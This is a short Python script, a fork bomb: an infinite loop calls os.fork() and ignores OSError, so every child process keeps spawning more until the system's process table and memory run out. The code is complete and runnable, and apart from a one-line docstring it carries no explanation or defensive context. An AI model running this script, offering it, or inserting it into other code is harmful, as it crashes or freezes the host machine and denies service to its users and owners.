"""Forks forever; every copy keeps forking."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
